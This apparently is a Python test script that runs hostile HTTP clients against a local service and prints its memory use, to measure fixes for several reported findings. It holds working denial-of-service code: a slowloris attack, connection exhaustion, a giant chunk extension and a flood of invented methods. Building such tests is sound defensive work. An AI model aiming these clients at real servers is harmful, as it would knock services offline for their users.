#!/usr/bin/env python3
"""Hostile HTTP clients against a MAESTRO service or the sidecar on loopback, for the before/after figures of
issue 11 (findings 2-5). PID is the server's process, whose VmHWM/VmRSS (MB) are printed.

  hostile_clients.py chunk_ext PORT PID MEGABYTES   one chunk extension of that size ("5;x=aaaa...")
  hostile_clients.py idle PORT N                    N idle connections, then GET /healthz
  hostile_clients.py slow PORT N SECONDS            N clients sending a header a byte a second; real GETs meanwhile
  hostile_clients.py slow_header PORT               one header at a byte a second: when does the server cut it?
  hostile_clients.py methods PORT N                 N requests with invented methods (then read /metrics)
"""
import socket, sys, time, threading

def status_of(sock, timeout=5.0):
    sock.settimeout(timeout)
    data = b""
    try:
        while b"\r\n" not in data:
            chunk = sock.recv(4096)
            if not chunk: break
            data += chunk
    except (socket.timeout, OSError) as e:
        return f"no answer ({type(e).__name__})"
    return data.split(b"\r\n")[0].decode(errors="replace") or "closed without answer"

def mem(pid):
    out = {}
    for line in open(f"/proc/{pid}/status"):
        if line.startswith(("VmHWM", "VmRSS")):
            k, v = line.split(":"); out[k] = int(v.split()[0]) / 1024
    return out

def get(port, path="/healthz", timeout=5.0):
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    t0 = time.time()
    try:
        s.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
        st = status_of(s, timeout)
    except OSError as e:
        st = f"error {e}"
    s.close()
    return st, time.time() - t0

def chunk_ext(port, pid, megabytes):
    print("before", mem(pid))
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(b"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n5;x=")
    piece = b"a" * 65536
    sent = 0
    try:
        while sent < megabytes * 1024 * 1024:
            s.sendall(piece); sent += len(piece)
    except OSError as e:
        print(f"server cut us off after {sent/1e6:.2f} MB: {e}")
    time.sleep(0.5)
    print("answer:", status_of(s, 3), f"(sent {sent/1e6:.1f} MB)")
    print("after", mem(pid))
    s.close()

def idle(port, n):
    socks = []
    for i in range(n):
        try: socks.append(socket.create_connection(("127.0.0.1", port), timeout=2))
        except OSError as e: print("connect", i, e); break
    print(f"{len(socks)} idle connections open")
    time.sleep(0.5)
    print("/healthz:", get(port, timeout=5))
    for s in socks: s.close()

def slow(port, n, seconds, path="/"):
    stop = time.time() + seconds
    def slowloris():
        while time.time() < stop:
            try:
                s = socket.create_connection(("127.0.0.1", port), timeout=2)
                for b in f"GET {path} HTTP/1.1\r\nHost: x\r\nX-Slow: ".encode() + b"a" * 10000:
                    if time.time() >= stop: break
                    s.send(bytes([b])); time.sleep(1)
            except OSError: pass
    threads = [threading.Thread(target=slowloris, daemon=True) for _ in range(n)]
    for t in threads: t.start()
    time.sleep(3)
    results = {}
    while time.time() < stop - 1:
        st, took = get(port, path, timeout=5)
        results[st] = results.get(st, 0) + 1
        time.sleep(0.5)
    print(f"{n} slow clients; real requests:", results)

def methods(port, n):
    for i in range(n):
        s = socket.create_connection(("127.0.0.1", port))
        s.sendall(f"M{i:05d} / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
        status_of(s); s.close()

def slow_header(port):
    s = socket.create_connection(("127.0.0.1", port)); t0 = time.time()
    s.settimeout(0.5)
    for b in b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 200:
        try:
            s.send(bytes([b]))
            if s.recv(1) == b"": break
        except socket.timeout: pass
        except OSError: break
        if time.time() - t0 > 75: break
    print(f"slow header connection closed by server after {time.time()-t0:.1f} s")

if __name__ == "__main__":
    cmd = sys.argv[1]; args = [int(a) for a in sys.argv[2:]]
    {"chunk_ext": chunk_ext, "idle": idle, "slow": slow, "methods": methods, "slow_header": slow_header}[cmd](*args)
